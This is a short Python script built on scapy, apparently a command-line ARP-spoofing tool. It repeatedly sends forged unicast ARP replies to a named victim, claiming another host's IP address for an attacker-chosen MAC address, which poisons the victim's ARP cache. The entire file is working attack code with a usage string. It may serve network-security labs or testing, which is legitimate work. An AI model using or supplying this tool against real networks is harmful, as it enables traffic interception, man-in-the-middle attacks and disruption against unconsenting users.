"""ARP lies: unicast replies to one victim that claim another host's address.

    arp.py spoof --mac MAC --claims IP --victim-mac MAC --victim IP [--count N]
"""
import argparse
import time

from scapy.all import ARP, Ether, conf, sendp

conf.verb = 0
parser = argparse.ArgumentParser()
parser.add_argument("mode", choices=["spoof"])
parser.add_argument("--mac", required=True)
parser.add_argument("--claims", required=True)
parser.add_argument("--victim-mac", required=True)
parser.add_argument("--victim", required=True)
parser.add_argument("--count", type=int, default=4)
args = parser.parse_args()
for _ in range(args.count):
    sendp(Ether(src=args.mac, dst=args.victim_mac) / ARP(op=2, hwsrc=args.mac, psrc=args.claims, hwdst=args.victim_mac, pdst=args.victim), iface="eth0")
    time.sleep(0.3)
